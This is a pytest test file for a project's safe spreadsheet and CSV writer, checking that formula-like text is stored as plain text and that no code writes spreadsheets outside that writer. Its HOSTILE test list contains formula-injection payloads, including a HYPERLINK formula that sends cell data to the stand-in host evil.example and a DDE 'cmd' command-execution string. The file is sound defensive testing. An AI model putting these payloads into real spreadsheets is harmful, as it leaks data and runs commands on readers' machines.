"""Every spreadsheet the project writes stores text as text: a value someone typed never becomes a live formula
in the reader's Excel (CSV/formula injection), and no code writes a spreadsheet around the one safe writer."""

import ast
import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from biaozhun.core import spreadsheets
from biaozhun.core.spreadsheets import FORMULA_TRIGGERS, Workbook, csv_unescape, csv_writer

ROOT = Path(__file__).resolve().parents[2] / "biaozhun"
WRITER = ROOT / "core" / "spreadsheets.py"
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1",
           "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("write_only", [False, True])
def test_formula_like_text_is_stored_as_text_exactly_as_typed(write_only):
    workbook = Workbook(write_only=write_only)
    sheet = workbook.sheet("意见")
    sheet.append(["序号", "意见内容"])
    for number, text in enumerate(HOSTILE, start=1):
        sheet.append([number, text])
    rows = list(load_workbook(io.BytesIO(workbook.to_bytes())).active.iter_rows(min_row=2))
    # The streamed writer keeps a CR (as &#13;); openpyxl's own writes it raw, and XML reads it back as LF.
    assert [row[1].value for row in rows] == (HOSTILE if write_only else [t.replace("\r", "\n") for t in HOSTILE])
    assert {row[1].data_type for row in rows} == {"s"}  # text, not "f" (formula)
    assert all(row[1].quotePrefix for row in rows)
    assert [row[0].data_type for row in rows] == ["n"] * len(HOSTILE)  # numbers stay numbers


def test_ordinary_text_dates_and_numbers_keep_their_types():
    from datetime import date, datetime

    workbook = Workbook()
    workbook.sheet("a").append(["GB/T 1-2020", date(2020, 3, 31), 7, None, "1 = 1"])
    [row] = load_workbook(io.BytesIO(workbook.to_bytes())).active.iter_rows()
    assert [c.value for c in row[:3]] == ["GB/T 1-2020", datetime(2020, 3, 31), 7]
    assert row[4].value == "1 = 1" and not row[4].quotePrefix


def test_sheet_titles_follow_excels_rules():
    workbook = Workbook()
    workbook.sheet("意见/汇总:处理[表]*?" + "长" * 40)
    title = load_workbook(io.BytesIO(workbook.to_bytes())).active.title
    assert len(title) == 31 and not set(title) & set(":\\/?*[]")


def test_csv_cells_are_escaped_and_read_back_unchanged():
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["GB/T 1-2020", *HOSTILE, "-", "正常文字"])
    cells = next(csv.reader(io.StringIO(out.getvalue())))
    assert all(cell.startswith("'") for cell in cells[1:len(HOSTILE) + 1])
    assert [csv_unescape(cell) for cell in cells] == ["GB/T 1-2020", *HOSTILE, "-", "正常文字"]
    assert csv_unescape("'not a formula") == "'not a formula"  # an apostrophe someone typed stays


def _calls_outside_the_writer() -> list[str]:
    """Uses of a spreadsheet writer anywhere but core/spreadsheets.py: openpyxl's Workbook or WriteOnlyCell,
    csv.writer or csv.DictWriter."""
    found = []
    for path in ROOT.rglob("*.py"):
        if path == WRITER or "migrations" in path.parts:
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl"):
                names = {alias.name for alias in node.names}
                if names & {"Workbook", "WriteOnlyCell"}:
                    found.append(f"{path.relative_to(ROOT)}:{node.lineno} imports {sorted(names)} from openpyxl")
            if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name):
                if node.value.id == "csv" and node.attr in {"writer", "DictWriter"}:
                    found.append(f"{path.relative_to(ROOT)}:{node.lineno} uses csv.{node.attr}")
                if node.value.id == "openpyxl" and node.attr in {"Workbook", "WriteOnlyCell"}:
                    found.append(f"{path.relative_to(ROOT)}:{node.lineno} uses openpyxl.{node.attr}")
    return found


def test_no_spreadsheet_is_written_outside_the_safe_writer():
    assert _calls_outside_the_writer() == []


def test_the_source_check_finds_a_writer_outside(tmp_path, monkeypatch):
    module = tmp_path / "biaozhun" / "rogue.py"
    module.parent.mkdir()
    module.write_text("import csv\nfrom openpyxl import Workbook\nw = csv.writer(None)\n", encoding="utf-8")
    monkeypatch.setattr(f"{__name__}.ROOT", module.parent)
    assert len(_calls_outside_the_writer()) == 2


def test_the_triggers_are_owasps():
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}
    assert spreadsheets.is_formula_like("=1") and not spreadsheets.is_formula_like(1)


def test_streamed_workbook_keeps_types_sheets_and_frozen_rows():
    from datetime import date, datetime

    workbook = Workbook(write_only=True)
    first = workbook.sheet("查新结果")
    first.worksheet.freeze_panes = "A2"
    first.append(["标准号", "日期", "时间", "页数", "有效", "空", "备注"])
    first.append(["GB/T 1-2020", date(2020, 3, 31), datetime(2021, 5, 6, 7, 8, 9), 12, True, None,
                  "  两端空格 & <标记> \x07响铃"])
    second = workbook.sheet("第二页")
    second.append([1.5, "-", "a=b"])
    book = load_workbook(io.BytesIO(workbook.to_bytes()))
    assert book.sheetnames == ["查新结果", "第二页"]
    sheet = book["查新结果"]
    assert sheet.freeze_panes == "A2"
    row = [cell.value for cell in sheet[2]]
    assert row == ["GB/T 1-2020", datetime(2020, 3, 31), datetime(2021, 5, 6, 7, 8, 9), 12, True, None,
                   "  两端空格 & <标记> 响铃"]  # the control character XML cannot carry is dropped
    assert sheet["B2"].is_date and sheet["C2"].is_date
    cells = book["第二页"][1]
    assert [c.value for c in cells] == [1.5, "-", "a=b"]
    assert cells[1].quotePrefix and not cells[2].quotePrefix


def test_streamed_workbook_with_no_sheet_is_still_a_workbook():
    book = load_workbook(io.BytesIO(Workbook(write_only=True).to_bytes()))
    assert book.sheetnames == ["Sheet1"]
